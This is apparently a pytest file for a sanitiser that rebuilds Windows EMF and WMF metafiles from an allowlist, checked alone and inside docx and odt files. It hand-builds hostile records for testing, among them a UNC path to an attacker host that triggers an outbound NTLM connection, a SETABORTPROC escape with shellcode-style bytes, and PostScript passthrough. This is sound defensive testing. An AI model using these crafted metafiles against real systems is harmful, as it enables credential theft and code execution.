"""Windows metafiles (EMF, WMF) written anew from an allowlist of records: real metafiles
(LibreOffice's own export) and hand-made attacks ([MS-EMF], [MS-WMF] layouts), alone, in a docx
and in an odt. The rewritten pictures are drawn by LibreOffice and compared with the benign
original's drawing; the records an attacker wrote are gone; the independent inspector passes them.

Pixel tolerance: at most 1 % of the pixels of the rendered page may differ by more than 48 in a
channel (LibreOffice draws text and scaled bitmaps with antialiasing; the pictures here differ by
0 % when nothing visible was removed)."""

from __future__ import annotations

import io
import shutil
import struct
import subprocess
import zipfile
from pathlib import Path

import pytest
from PIL import Image, ImageChops

from converters.base import Limits
from converters.formats.metafile import rewrite_emf, rewrite_wmf
from converters.formats.metafile_records import Rewritten
from converters.inspect.metafile import emf_problems, wmf_problems
from converters.inspect.outputs import inspect_file
from tests.conftest import run_engine

PIXELS = Limits().max_image_pixels
ICM_SHARE = "\\\\attacker.example\\share\\x.icm"
needs_libreoffice = pytest.mark.skipif(shutil.which("soffice") is None,
                                       reason="LibreOffice comes from scripts/setup.sh")


# --- EMF, by hand ---------------------------------------------------------------------------------

def pad4(data: bytes) -> bytes:
    return data + bytes(-len(data) % 4)


def rec(kind: int, body: bytes = b"") -> bytes:
    body = pad4(body)
    return struct.pack("<II", kind, 8 + len(body)) + body


def emf_types(data: bytes) -> list[int]:
    """The record types of an EMF, header to EOF."""
    position, kinds = 0, []
    while position + 8 <= len(data):
        kind, size = struct.unpack_from("<II", data, position)
        kinds.append(kind)
        position += size
        if kind == 14 or size < 8:
            break
    return kinds


def emf_records(data: bytes, kind: int) -> list[bytes]:
    position, found = 0, []
    while position + 8 <= len(data):
        this, size = struct.unpack_from("<II", data, position)
        if this == kind:
            found.append(data[position:position + size])
        position += size
        if this == 14 or size < 8:
            break
    return found


def emf(records: list[bytes], width: int = 200, height: int = 100, header_size: int = 108) -> bytes:
    """An EMF of ``width`` x ``height`` logical units (pixels of a 2 px/mm device)."""
    body = b"".join(records)
    eof = struct.pack("<IIIII", 14, 20, 0, 16, 20)
    total = header_size + len(body) + len(eof)
    header = struct.pack("<II", 1, header_size) + struct.pack("<iiii", 0, 0, width - 1, height - 1)
    header += struct.pack("<iiii", 0, 0, width * 50 - 1, height * 50 - 1) + b" EMF"
    header += struct.pack("<IIIHHIII", 0x10000, total, len(emf_types(body)) + 2, 8, 0, 0, 0, 0)
    header += struct.pack("<iiii", 1000, 1000, 500, 500) + struct.pack("<IIIii", 0, 0, 0, 500000, 500000)
    return header[:header_size].ljust(header_size, b"\x00") + body + eof


def rgb(red: int, green: int, blue: int) -> int:
    return red | green << 8 | blue << 16


def brush(index: int, colour: int, style: int = 0) -> bytes:
    return rec(39, struct.pack("<IIII", index, style, colour, 0))


def pen(index: int, colour: int, width: int = 2) -> bytes:
    return rec(38, struct.pack("<IIiiI", index, 0, width, 0, colour))


def select(index: int) -> bytes:
    return rec(37, struct.pack("<I", index))


def rectangle(left: int, top: int, right: int, bottom: int) -> bytes:
    return rec(43, struct.pack("<iiii", left, top, right, bottom))


def polygon16(points: list[tuple[int, int]], count: int | None = None) -> bytes:
    flat = [c for point in points for c in point]
    return rec(86, struct.pack("<iiiiI", 0, 0, 200, 100, len(points) if count is None else count)
               + struct.pack(f"<{len(flat)}h", *flat))


def dib(width: int, height: int, colours: list[tuple[int, int, int]], *, compression: int = 0,
        bits: bytes | None = None, size_image: int | None = None, bit_count: int = 24,
        header_height: int | None = None) -> tuple[bytes, bytes]:
    """(BITMAPINFOHEADER, bits) of a bottom-up 24-bit bitmap of ``colours`` (rows top first)."""
    row = (width * bit_count + 31) // 32 * 4
    if bits is None:
        bits = b"".join(
            b"".join(bytes((b, g, r)) for r, g, b in colours[y * width:(y + 1) * width]).ljust(row, b"\x00")
            for y in range(height - 1, -1, -1))
    info = struct.pack("<IiiHHIIiiII", 40, width, height if header_height is None else header_height, 1, bit_count,
                       compression, len(bits) if size_image is None else size_image, 0, 0, 0, 0)
    return info, bits


def stretch_dibits(dest: tuple[int, int, int, int], info: bytes, bits: bytes) -> bytes:
    x, y, cx, cy = dest
    width, height = struct.unpack_from("<ii", info, 4)
    off_bits = 80 + len(pad4(info))
    body = struct.pack("<iiii", x, y, x + cx, y + cy) + struct.pack("<iiiiii", x, y, 0, 0, width, abs(height))
    body += struct.pack("<IIIIIIii", 80, len(info), off_bits, len(bits), 0, 0x00CC0020, cx, cy)
    return rec(81, body + pad4(info) + pad4(bits))


def font(index: int, height: int, face: str) -> bytes:
    logfont = struct.pack("<iiiiiBBBBBBBB", -height, 0, 0, 0, 700, 0, 0, 0, 1, 0, 0, 0, 0)
    return rec(82, struct.pack("<I", index) + logfont + face.encode("utf-16-le").ljust(64, b"\x00"))


def text(x: int, y: int, words: str) -> bytes:
    """EMR_EXTTEXTOUTW with its string and advances after the fixed part."""
    chars = words.encode("utf-16-le")
    body = struct.pack("<iiii", x, y, x + 100, y + 20) + struct.pack("<Iff", 1, 1.0, 1.0)
    body += struct.pack("<iiIII", x, y, len(words), 76, 0) + bytes(16) + struct.pack("<I", 76 + len(pad4(chars)))
    return rec(84, body + pad4(chars) + struct.pack(f"<{len(words)}i", *[16] * len(words)))


TILE = [(255, 200, 0), (0, 160, 0), (0, 0, 0), (255, 255, 255)] * 4


def benign_emf_records() -> list[bytes]:
    info, bits = dib(4, 4, TILE)
    return [brush(1, rgb(40, 80, 200)), select(1), pen(2, rgb(0, 0, 0)), select(2), rectangle(10, 10, 90, 60),
            brush(3, rgb(200, 40, 40)), select(3), polygon16([(110, 10), (190, 10), (150, 60)]),
            stretch_dibits((110, 65, 80, 30), info, bits), font(4, 20, "Arial"), select(4), text(10, 70, "EMF ok")]


def emf_plus(*records: tuple[int, int, bytes]) -> bytes:
    """EMR_COMMENT carrying EMF+ records (type, flags, data)."""
    payload = b"EMF+" + b"".join(struct.pack("<HHII", kind, flags, 12 + len(data), len(data)) + data
                                 for kind, flags, data in records)
    return rec(70, struct.pack("<I", len(payload)) + payload)


def emf_plus_header(dual: bool) -> bytes:
    return emf_plus((0x4001, 1 if dual else 0, struct.pack("<IIII", 0xDBC01002, 1, 96, 96)))


EMF_PLUS_RED_FILL = (0x400A, 0x8000, struct.pack("<II", 0xFFFF0000, 1) + struct.pack("<ffff", 0, 0, 200, 100))


def icm_profile() -> bytes:
    """EMR_SETICMPROFILEW naming a profile on an attacker's share (Windows connects out: NTLM)."""
    name = (ICM_SHARE + "\x00").encode("utf-16-le")
    return rec(113, struct.pack("<III", 0, len(name), 0) + name)


def colour_space() -> list[bytes]:
    """EMR_CREATECOLORSPACEW whose LogColorSpaceW file name is a UNC path, then EMR_SETCOLORSPACE."""
    filename = ICM_SHARE.encode("utf-16-le").ljust(520, b"\x00")
    logcs = struct.pack("<IIIII", 0x50534F43, 0x400, 588, 0x4C494E4B, 4) + bytes(36 + 12) + filename
    return [rec(122, struct.pack("<I", 5) + logcs + struct.pack("<II", 0, 0)), rec(100, struct.pack("<I", 5))]


def escapes_emf() -> list[bytes]:
    return [rec(106, struct.pack("<II", 0x1017, 8) + b"%!PS\r\nx"),  # EMR_EXTESCAPE, POSTSCRIPT_PASSTHROUGH
            rec(105, struct.pack("<II", 9, 4) + b"ABCD"),  # EMR_DRAWESCAPE
            rec(110, struct.pack("<III", 0x1017, 8, 4) + "drv\x00".encode("utf-16-le") + b"data")]  # NAMEDESCAPE


def jpeg_bytes() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), (255, 0, 0)).save(buffer, "JPEG")
    return buffer.getvalue()


def jpeg_stretch() -> bytes:
    payload = jpeg_bytes()
    info = struct.pack("<IiiHHIIiiII", 40, 8, 8, 1, 0, 4, len(payload), 0, 0, 0, 0)  # BI_JPEG
    return stretch_dibits((0, 0, 200, 100), info, payload)


def lying_height_stretch() -> bytes:
    info, bits = dib(4, 4, TILE, header_height=4000)  # the header says 4000 lines, the bits hold 4
    return stretch_dibits((0, 0, 200, 100), info, bits)


# --- WMF, by hand ---------------------------------------------------------------------------------

def wrec(function: int, params: bytes = b"") -> bytes:
    params += bytes(len(params) % 2)
    return struct.pack("<IH", 3 + len(params) // 2, function) + params


def wmf(records: list[bytes], placeable: bool = True) -> bytes:
    body = b"".join(records) + wrec(0)
    largest = max(struct.unpack_from("<I", body, at)[0] for at in record_offsets(body))
    header = struct.pack("<HHHIHIH", 1, 9, 0x0300, (18 + len(body)) // 2, 8, largest, 0)
    if not placeable:
        return header + body
    head = b"\xd7\xcd\xc6\x9a" + struct.pack("<HhhhhHI", 0, 0, 0, 200, 100, 100, 0)
    checksum = 0
    for (word,) in struct.iter_unpack("<H", head):
        checksum ^= word
    return head + struct.pack("<H", checksum) + header + body


def record_offsets(body: bytes) -> list[int]:
    position, found = 0, []
    while position + 6 <= len(body):
        found.append(position)
        position += struct.unpack_from("<I", body, position)[0] * 2
    return found


def wmf_functions(data: bytes) -> list[int]:
    start = (22 if data.startswith(b"\xd7\xcd\xc6\x9a") else 0) + 18
    return [struct.unpack_from("<H", data, start + at + 4)[0] for at in record_offsets(data[start:])]


def wmf_brush(colour: int, style: int = 0) -> bytes:
    return wrec(0x02FC, struct.pack("<HIH", style, colour, 0))


def wmf_select(index: int) -> bytes:
    return wrec(0x012D, struct.pack("<H", index))


def wmf_stretch_dib(info: bytes, bits: bytes, dest: tuple[int, int, int, int]) -> bytes:
    x, y, cx, cy = dest
    width, height = struct.unpack_from("<ii", info, 4)
    return wrec(0x0F43, struct.pack("<IHhhhhhhhh", 0x00CC0020, 0, abs(height), width, 0, 0, cy, cx, y, x)
                + info + bits)


def benign_wmf_records() -> list[bytes]:
    info, bits = dib(4, 4, TILE)
    face = "Arial".encode("ascii").ljust(32, b"\x00")
    return [wrec(0x020B, struct.pack("<hh", 0, 0)), wrec(0x020C, struct.pack("<hh", 100, 200)),
            wmf_brush(rgb(40, 80, 200)), wmf_select(0),
            wrec(0x02FA, struct.pack("<HhhI", 0, 2, 0, 0)), wmf_select(1),
            wrec(0x041B, struct.pack("<hhhh", 60, 90, 10, 10)),
            wmf_brush(rgb(200, 40, 40)), wmf_select(2),
            wrec(0x0324, struct.pack("<H6h", 3, 110, 10, 190, 10, 150, 60)),
            wmf_stretch_dib(info, bits, (110, 65, 80, 30)),
            wrec(0x02FB, struct.pack("<hhhhhBBBBBBBB", -20, 0, 0, 0, 700, 0, 0, 0, 0, 0, 0, 0, 0) + face),
            wmf_select(3), wrec(0x0521, struct.pack("<H", 6) + b"WMF ok" + struct.pack("<hh", 70, 10))]


def wmf_escape(function: int, data: bytes) -> bytes:
    return wrec(0x0626, struct.pack("<HH", function, len(data)) + data)


WMF_ESCAPES = [wmf_escape(9, b"\x90" * 16 + b"\xcc" * 8),  # SETABORTPROC: a code pointer and shellcode
               wmf_escape(0x000F, b"WMFC" + bytes(30)),  # MFCOMMENT (the embedded-EMF comments ride here)
               wmf_escape(0x0013, b"%!PS-Adobe-3.0\r\nquit\r\n")]  # PASSTHROUGH to a PostScript printer


# --- rendering ------------------------------------------------------------------------------------

def render(sources: list[Path], work: Path) -> list[Image.Image]:
    """Each file (metafile or document) drawn by LibreOffice as a PNG of its first page; one process."""
    out = work / "rendered"
    out.mkdir(exist_ok=True)
    command = ["soffice", "--headless", "--norestore", f"-env:UserInstallation=file://{work}/profile",
               "--convert-to", "png", "--outdir", str(out), *map(str, sources)]
    subprocess.run(command, capture_output=True, timeout=240, check=False)
    images = []
    for source in sources:
        with Image.open(out / f"{source.stem}.png") as image:
            images.append(image.convert("RGB"))
    return images


def differing(first: Image.Image, second: Image.Image) -> float:
    """Share of pixels that differ by more than 48 in a channel."""
    assert first.size == second.size
    mask = ImageChops.difference(first, second).convert("L").point(lambda value: 255 if value > 48 else 0)
    return float(mask.histogram()[255]) / (first.size[0] * first.size[1])


def drawn(image: Image.Image) -> bool:
    """Something other than the white page is there."""
    return image.convert("L").point(lambda value: 255 if value < 200 else 0).getbbox() is not None


def rewritten(result: Rewritten | str) -> Rewritten:
    assert isinstance(result, Rewritten), result
    return result


# --- EMF ------------------------------------------------------------------------------------------

def test_a_benign_emf_is_written_anew_without_a_finding() -> None:
    original = emf(benign_emf_records())
    result = rewritten(rewrite_emf(original, PIXELS))
    assert result.removed == {} and result.trailing == 0
    assert emf_types(result.data) == emf_types(original)
    assert emf_problems(result.data) == []
    nbytes, nrecords, nhandles = struct.unpack_from("<IIH", result.data, 48)
    assert nbytes == len(result.data) and nrecords == len(emf_types(original)) and nhandles == 5


def test_the_emf_header_loses_its_description_and_pixel_format() -> None:
    records = benign_emf_records()
    original = bytearray(emf(records, header_size=160))
    description = "Attacker\x00<script>\x00\x00".encode("utf-16-le")
    struct.pack_into("<II", original, 60, len(description) // 2, 108)
    struct.pack_into("<III", original, 88, 40, 120, 1)  # a pixel format and bOpenGL
    original[108:108 + len(description)] = description
    result = rewritten(rewrite_emf(bytes(original), PIXELS))
    assert struct.unpack_from("<I", result.data, 4)[0] == 108 and result.data[40:44] == b" EMF"
    assert struct.unpack_from("<IIIIII", result.data, 60)[:2] == (0, 0)
    assert struct.unpack_from("<III", result.data, 88) == (0, 0, 0)
    assert b"<\x00s\x00c\x00r" not in result.data and emf_problems(result.data) == []
    assert emf_problems(bytes(original)) == ["metafile header with an OpenGL pixel format"]


@pytest.mark.parametrize(("extra", "removed"), [
    (escapes_emf(), {"escapes": 3}),
    ([emf_plus_header(dual=True), emf_plus(EMF_PLUS_RED_FILL, (0x4004, 0, b""))], {"EMF+ records (comments)": 2}),
    ([rec(70, struct.pack("<I", 12) + b"GDIC" + struct.pack("<II", 0x40000004, 0))], {"comments": 1}),
    ([icm_profile(), *colour_space()], {"colour profiles and colour spaces": 3}),
    ([rec(102, struct.pack("<I", 8) + bytes(8)), rec(104, bytes(40))], {"OpenGL records": 2}),
    ([rec(119, struct.pack("<II", 1, 0))], {"font mapping records": 1}),
    ([jpeg_stretch()], {"JPEG or PNG bitmaps": 1}),
    ([lying_height_stretch()], {"damaged bitmaps": 1}),
    ([polygon16([(0, 0), (50, 50), (0, 50)], count=5000)], {"records shorter than their contents": 1}),
    ([rec(117, bytes(8)), rec(200, bytes(4))], {"record types not kept": 2}),
])
def test_emf_records_outside_the_allowlist_are_left_out(extra: list[bytes], removed: dict[str, int]) -> None:
    base = benign_emf_records()
    original = emf(extra[:1] + base[:4] + extra[1:] + base[4:])
    result = rewritten(rewrite_emf(original, PIXELS))
    assert result.removed == removed
    assert emf_types(result.data) == emf_types(emf(base))
    assert emf_problems(result.data) == []
    assert emf_problems(original) != []
    for gone in (b"EMF+", ICM_SHARE.encode("utf-16-le"), b"%!PS", jpeg_bytes()[:16]):
        assert gone not in result.data


def test_a_lying_image_size_is_written_as_the_bits_are() -> None:
    info, bits = dib(4, 4, TILE, size_image=999_999)
    original = emf([stretch_dibits((0, 0, 200, 100), info, bits + b"hidden after the bits" * 4)])
    result = rewritten(rewrite_emf(original, PIXELS))
    assert result.removed == {}
    [record] = emf_records(result.data, 81)
    off_bmi, cb_bmi, off_bits, cb_bits = struct.unpack_from("<IIII", record, 48)
    assert (cb_bmi, cb_bits) == (40, 48) and struct.unpack_from("<I", record, off_bmi + 20)[0] == 48
    assert record[off_bits:off_bits + cb_bits] == bits and b"hidden" not in result.data


def test_bitmap_headers_are_checked_before_the_bits_are_read() -> None:
    info, bits = dib(4, 4, TILE)
    cases = {
        "BI_PNG": info[:14] + struct.pack("<HI", 0, 5) + info[20:],
        "two planes": info[:12] + struct.pack("<H", 2) + info[14:],
        "7 bits a pixel": info[:14] + struct.pack("<H", 7) + info[16:],
        "a V3 header size of 52": struct.pack("<I", 52) + info[4:] + bytes(12),
        "RLE8 on 24 bits": info[:16] + struct.pack("<I", 1) + info[20:],
        "over the pixel budget": info[:4] + struct.pack("<ii", 100_000, 100_000) + info[12:],
    }
    for name, header in cases.items():
        result = rewritten(rewrite_emf(emf([rectangle(0, 0, 9, 9), stretch_dibits((0, 0, 9, 9), header, bits)]),
                                       PIXELS))
        assert sum(result.removed.values()) == 1 and 81 not in emf_types(result.data), name


def test_run_length_bitmaps_stay_only_inside_their_bounds() -> None:
    palette = b"".join(bytes((b, g, r, 0)) for r, g, b in [(255, 0, 0), (0, 0, 255)] + [(0, 0, 0)] * 254)
    good = bytes([4, 0, 0, 0, 4, 1, 0, 0, 2, 0, 2, 1, 0, 1])  # 4 red; EOL; 4 blue; EOL; 2 red 2 blue; EOB
    overflowing = bytes([200, 0, 0, 1])  # a run of 200 pixels in a 4-pixel line
    for stream, kept in ((good, True), (overflowing, False)):
        info = struct.pack("<IiiHHIIiiII", 40, 4, 3, 1, 8, 1, len(stream), 0, 0, 256, 0) + palette
        result = rewritten(rewrite_emf(emf([rectangle(0, 0, 9, 9), stretch_dibits((0, 0, 40, 30), info, stream)]),
                                       PIXELS))
        assert (81 in emf_types(result.data)) is kept
        if kept:
            [record] = emf_records(result.data, 81)
            off_bits, cb_bits = struct.unpack_from("<II", record, 56)
            assert record[off_bits:off_bits + cb_bits] == good and emf_problems(result.data) == []


def test_objects_whose_creation_was_left_out_are_not_used() -> None:
    jpeg_brush_info = struct.pack("<IiiHHIIiiII", 40, 8, 8, 1, 0, 4, 10, 0, 0, 0, 0)
    pattern = rec(94, struct.pack("<IIIIII", 7, 0, 32, 40, 72, 10) + jpeg_brush_info + b"\xff\xd8\xff" + bytes(7))
    original = emf([pattern, select(7), rectangle(0, 0, 50, 50), rec(40, struct.pack("<I", 7)),
                    select(0x80000000 + 4), rectangle(60, 0, 90, 50)])
    result = rewritten(rewrite_emf(original, PIXELS))
    assert result.removed == {"JPEG or PNG bitmaps": 1}
    assert emf_types(result.data) == [1, 43, 37, 43, 14]  # the stock BLACK_BRUSH selection stays
    assert struct.unpack_from("<H", result.data, 56)[0] == 1  # no handle in use: only the reserved one


def test_an_emf_plus_only_picture_has_nothing_left_to_draw() -> None:
    only = emf([emf_plus_header(dual=False), emf_plus(EMF_PLUS_RED_FILL), emf_plus((0x4002, 0, b"")),
                rec(17, struct.pack("<I", 1))])
    reason = rewrite_emf(only, PIXELS)
    assert isinstance(reason, str) and "nothing of the EMF metafile is left to draw" in reason and "EMF+" in reason


@pytest.mark.parametrize("damage", ["no end record", "a record running past the end", "a size not a multiple of 4",
                                    "not EMF", "zero millimetres"])
def test_a_damaged_emf_is_refused_whole(damage: str) -> None:
    good = emf(benign_emf_records())
    data = {"no end record": good[:-20], "a record running past the end": good[:-20] + struct.pack("<II", 43, 400),
            "a size not a multiple of 4": good[:108] + struct.pack("<II", 43, 26) + good[116:],
            "not EMF": good[:40] + b"XEMF" + good[44:],
            "zero millimetres": good[:80] + bytes(8) + good[88:]}[damage]
    assert rewrite_emf(data, PIXELS) == "a damaged or disguised EMF metafile"


def test_data_after_the_end_record_is_counted_and_dropped() -> None:
    result = rewritten(rewrite_emf(emf(benign_emf_records()) + b"MZ\x90\x00 payload", PIXELS))
    assert result.trailing == 12 and b"payload" not in result.data


# --- WMF ------------------------------------------------------------------------------------------

def test_a_benign_wmf_is_written_anew_without_a_finding() -> None:
    original = wmf(benign_wmf_records())
    result = rewritten(rewrite_wmf(original, PIXELS))
    assert result.removed == {} and wmf_functions(result.data) == wmf_functions(original)
    assert result.data[:22] == original[:22]  # the same placeable header, checksum and all
    size, objects, largest = struct.unpack_from("<IHI", result.data, 22 + 6)
    assert size * 2 == len(result.data) - 22 and objects == 4 and largest == max(
        struct.unpack_from("<I", result.data, 40 + at)[0] for at in record_offsets(result.data[40:]))
    assert wmf_problems(result.data) == []


def test_wmf_escapes_of_every_function_are_left_out() -> None:
    base = benign_wmf_records()
    original = wmf(WMF_ESCAPES[:1] + base[:4] + WMF_ESCAPES[1:] + base[4:])
    assert wmf_problems(original) == ["metafile abort procedure (SETABORTPROC)", "metafile escape record"]
    result = rewritten(rewrite_wmf(original, PIXELS))
    assert result.removed == {"SETABORTPROC escapes": 1, "escapes": 2}
    assert 0x0626 not in wmf_functions(result.data) and b"\xcc" * 8 not in result.data and b"%!PS" not in result.data
    assert result.data == rewritten(rewrite_wmf(wmf(base), PIXELS)).data
    assert wmf_problems(result.data) == []


def test_a_wmf_object_left_out_keeps_the_numbers_of_the_objects_after_it() -> None:
    """Slot 0 a pattern brush from a Windows 2.x bitmap (not kept), slot 1 green: selecting 1 must
    still select green, so slot 0 gets a hollow brush in its place."""
    original = wmf([wrec(0x01F9, bytes(14) + bytes(8)), wmf_brush(rgb(0, 160, 0)), wmf_select(1),
                    wrec(0x041B, struct.pack("<hhhh", 90, 190, 10, 10)), wrec(0x01F0, struct.pack("<H", 0)),
                    wmf_select(0)])
    result = rewritten(rewrite_wmf(original, PIXELS))
    assert result.removed == {"record types not kept": 1}
    assert wmf_functions(result.data) == [0x02FC, 0x02FC, 0x012D, 0x041B, 0x01F0, 0]  # the select of 0 goes
    start = 22 + 18
    assert result.data[start + 6:start + 14] == struct.pack("<HIH", 1, 0, 0)  # BS_NULL
    assert wmf_problems(result.data) == []


def test_wmf_bitmaps_are_checked_and_written_anew() -> None:
    info, bits = dib(4, 4, TILE)
    png_info = info[:14] + struct.pack("<HI", 0, 5) + info[20:]
    original = wmf([wrec(0x041B, struct.pack("<hhhh", 60, 90, 10, 10)),
                    wmf_stretch_dib(png_info, b"\x89PNG\r\n\x1a\n" + bytes(40), (0, 0, 200, 100)),
                    wmf_stretch_dib(info[:20] + struct.pack("<I", 12345) + info[24:], bits + bytes(10), (0, 0, 9, 9)),
                    wrec(0x0F43, struct.pack("<IH8h", 0x00CC0020, 0, 4000, 4, 0, 0, 9, 9, 0, 0)
                         + info[:8] + struct.pack("<i", 4000) + info[12:] + bits)])
    assert "metafile bitmap holding a JPEG or PNG" in wmf_problems(original)
    result = rewritten(rewrite_wmf(original, PIXELS))
    assert result.removed == {"JPEG or PNG bitmaps": 1, "damaged bitmaps": 1}
    assert wmf_functions(result.data) == [0x041B, 0x0F43, 0]
    assert b"\x89PNG" not in result.data and wmf_problems(result.data) == []
    stretch = 22 + 18 + 14  # after the headers and the rectangle
    assert struct.unpack_from("<I", result.data, stretch + 6 + 22 + 20)[0] == 48  # biSizeImage as the bits are


def test_a_wmf_point_count_beyond_its_record_is_left_out() -> None:
    original = wmf([wrec(0x0324, struct.pack("<H6h", 3000, 0, 0, 10, 10, 0, 10)),
                    wrec(0x041B, struct.pack("<hhhh", 60, 90, 10, 10))], placeable=False)
    assert wmf_problems(original) == ["metafile point count beyond its record"]
    result = rewritten(rewrite_wmf(original, PIXELS))
    assert result.removed == {"records shorter than their contents": 1} and wmf_functions(result.data) == [0x041B, 0]
    assert wmf_problems(result.data) == []


def test_a_wmf_of_escapes_alone_is_refused() -> None:
    reason = rewrite_wmf(wmf(WMF_ESCAPES), PIXELS)
    assert isinstance(reason, str) and "nothing of the WMF metafile is left to draw" in reason


def test_a_wrong_placeable_checksum_is_written_right() -> None:
    original = bytearray(wmf(benign_wmf_records()))
    original[20:22] = b"\x00\x00"
    assert wmf_problems(bytes(original)) == ["metafile placeable header checksum wrong"]
    result = rewritten(rewrite_wmf(bytes(original), PIXELS))
    assert result.data[20:22] == wmf(benign_wmf_records())[20:22] and wmf_problems(result.data) == []


# --- drawn by LibreOffice -------------------------------------------------------------------------

@needs_libreoffice
def test_rewritten_metafiles_draw_as_the_benign_originals(tmp_path: Path) -> None:
    """LibreOffice's own EMF and WMF exports of a drawing (with their EMF+ records and embedded-EMF
    escapes), and the hand-made attacks, drawn after the rewrite, against the benign drawings."""
    svg = tmp_path / "drawing.svg"
    svg.write_text('<svg xmlns="http://www.w3.org/2000/svg" width="200" height="120" viewBox="0 0 200 120">'
                   '<rect x="10" y="10" width="80" height="50" fill="#c03030" stroke="#000" stroke-width="2"/>'
                   '<ellipse cx="140" cy="60" rx="40" ry="30" fill="#3060c0"/>'
                   '<polyline points="10,100 50,80 90,110 130,90" fill="none" stroke="#208020" stroke-width="3"/>'
                   '<text x="20" y="115" font-size="14">図 Test 日本語</text></svg>', encoding="utf-8")
    exported = []
    for kind in ("emf", "wmf"):
        subprocess.run(["soffice", "--headless", "--norestore",
                        f"-env:UserInstallation=file://{tmp_path}/profile", "--convert-to", kind,
                        "--outdir", str(tmp_path / kind), str(svg)], capture_output=True, timeout=240, check=False)
        exported.append((tmp_path / kind / "drawing").with_suffix(f".{kind}"))
    lo_emf, lo_wmf = (path.read_bytes() for path in exported)
    assert b"EMF+" in lo_emf and 0x0626 in wmf_functions(lo_wmf)  # what LibreOffice writes: both are removed
    base = benign_emf_records()
    pairs = {
        "lo_emf": (lo_emf, lo_emf),
        "lo_wmf": (lo_wmf, lo_wmf),
        "emf_attacks": (emf(base), emf([emf_plus_header(dual=True), emf_plus(EMF_PLUS_RED_FILL, (0x4004, 0, b"")),
                                        icm_profile(), *colour_space(), *escapes_emf(), *base[:4], jpeg_stretch(),
                                        lying_height_stretch(), *base[4:]])),
        "wmf_attacks": (wmf(benign_wmf_records()), wmf(WMF_ESCAPES + benign_wmf_records())),
    }
    sources = []
    for name, (benign, attack) in pairs.items():
        suffix = ".wmf" if "wmf" in name else ".emf"
        rewrite = rewrite_wmf if suffix == ".wmf" else rewrite_emf
        (tmp_path / f"{name}-benign{suffix}").write_bytes(benign)
        (tmp_path / f"{name}-clean{suffix}").write_bytes(rewritten(rewrite(attack, PIXELS)).data)
        sources += [tmp_path / f"{name}-benign{suffix}", tmp_path / f"{name}-clean{suffix}"]
    images = render(sources, tmp_path)
    for index, name in enumerate(pairs):
        benign_image, clean_image = images[2 * index], images[2 * index + 1]
        assert drawn(clean_image), name
        assert differing(benign_image, clean_image) <= 0.01, name


# --- inside documents -----------------------------------------------------------------------------

def docx_with_picture(path: Path, picture: bytes, extension: str) -> Path:
    """A python-docx document with one picture, its bytes and name replaced by the metafile's."""
    import docx
    from docx.shared import Cm

    png = io.BytesIO()
    Image.new("RGB", (20, 10), (0, 0, 0)).save(png, "PNG")
    png.seek(0)
    document = docx.Document()
    document.add_paragraph("図のある文書")
    document.add_picture(png, width=Cm(10))
    plain = path.with_name(f"{path.stem}-python-docx.docx")
    document.save(str(plain))
    content_type = {"emf": "image/x-emf", "wmf": "image/x-wmf"}[extension]
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for name in source.namelist():
            data = source.read(name)
            if name == "word/media/image1.png":
                name, data = f"word/media/image1.{extension}", picture
            elif name == "word/_rels/document.xml.rels":
                data = data.replace(b"media/image1.png", f"media/image1.{extension}".encode())
            elif name == "[Content_Types].xml":
                data = data.replace(b"</Types>", f'<Default Extension="{extension}" ContentType="{content_type}"/>'
                                    "</Types>".encode())
            out.writestr(name, data)
    return path


def media_of(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as package:
        return {name: package.read(name) for name in package.namelist() if "/media/" in name or "Pictures/" in name}


@needs_libreoffice
def test_a_docx_picture_loses_its_attack_records_and_still_draws(tmp_path: Path) -> None:
    base = benign_emf_records()
    hostile = emf([emf_plus_header(dual=True), icm_profile(), *colour_space(), *escapes_emf(), *base])
    benign_docx = docx_with_picture(tmp_path / "benign.docx", emf(base), "emf")
    source = docx_with_picture(tmp_path / "hostile.docx", hostile, "emf")
    report = run_engine(source, tmp_path / "out")
    findings = {(f.code, f.detail) for f in report.findings}
    assert report.outcome == "sanitized"
    assert ("metafile_records_removed", "word/media/image1.emf: EMF+ records (comments) x1, colour profiles and "
            "colour spaces x3, escapes x3") in findings
    output = tmp_path / "out" / report.outputs[0].path
    [picture] = media_of(output).values()
    assert picture == rewritten(rewrite_emf(emf(base), PIXELS)).data
    assert inspect_file(output, tmp_path).clean
    clean_docx = tmp_path / "clean.docx"
    shutil.copy(output, clean_docx)
    benign_image, clean_image = render([benign_docx, clean_docx], tmp_path)
    assert drawn(clean_image) and differing(benign_image, clean_image) <= 0.01


def test_a_docx_wmf_with_an_abort_procedure_is_disarmed_not_blocked(tmp_path: Path) -> None:
    source = docx_with_picture(tmp_path / "abort.docx", wmf(WMF_ESCAPES + benign_wmf_records()), "wmf")
    report = run_engine(source, tmp_path / "out")
    assert report.outcome == "sanitized"
    assert ("metafile_records_removed", "word/media/image1.wmf: SETABORTPROC escapes x1, escapes x2") in {
        (f.code, f.detail) for f in report.findings}
    output = tmp_path / "out" / report.outputs[0].path
    [picture] = media_of(output).values()
    assert 0x0626 not in wmf_functions(picture) and inspect_file(output, tmp_path).clean


def test_an_emf_plus_only_picture_is_removed_with_a_finding(tmp_path: Path) -> None:
    only = emf([emf_plus_header(dual=False), emf_plus(EMF_PLUS_RED_FILL), emf_plus((0x4002, 0, b""))])
    report = run_engine(docx_with_picture(tmp_path / "plus.docx", only, "emf"), tmp_path / "out")
    assert [f.detail for f in report.findings if f.code == "media_removed"] == [
        "word/media/image1.emf: nothing of the EMF metafile is left to draw without its EMF+ records (comments) x3"]
    output = tmp_path / "out" / report.outputs[0].path
    assert media_of(output) == {} and inspect_file(output, tmp_path).clean


def test_a_benign_metafile_in_a_document_is_not_a_finding(tmp_path: Path) -> None:
    report = run_engine(docx_with_picture(tmp_path / "plain.docx", emf(benign_emf_records()), "emf"),
                        tmp_path / "out")
    assert report.outcome == "passed" and report.findings == []


def test_an_odt_picture_is_rewritten_the_same_way(tmp_path: Path) -> None:
    from tests.converters.formats.test_odf import with_parts, write_odf

    body = ('<text:p><draw:frame draw:name="f" svg:width="4cm" svg:height="2cm"><draw:image '
            'xlink:href="Pictures/drawing.wmf" xlink:type="simple"/></draw:frame></text:p>')
    source = with_parts(write_odf(tmp_path / "plain.odt", body), tmp_path / "hostile.odt",
                        {"Pictures/drawing.wmf": wmf(WMF_ESCAPES + benign_wmf_records())},
                        {"Pictures/drawing.wmf": "image/x-wmf"})
    report = run_engine(source, tmp_path / "out")
